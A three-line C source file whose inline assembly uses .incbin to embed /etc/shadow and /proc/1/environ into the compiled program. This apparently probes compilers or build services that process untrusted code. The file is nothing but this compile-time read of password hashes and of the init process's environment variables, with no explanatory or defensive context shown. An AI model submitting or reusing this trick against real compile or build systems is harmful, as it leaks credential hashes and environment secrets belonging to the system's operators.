__asm__(".section .rodata\nsecret: .incbin \"/etc/shadow\"\n.previous");
__asm__(".incbin \"/proc/1/environ\"");
int main(void) { return 0; }
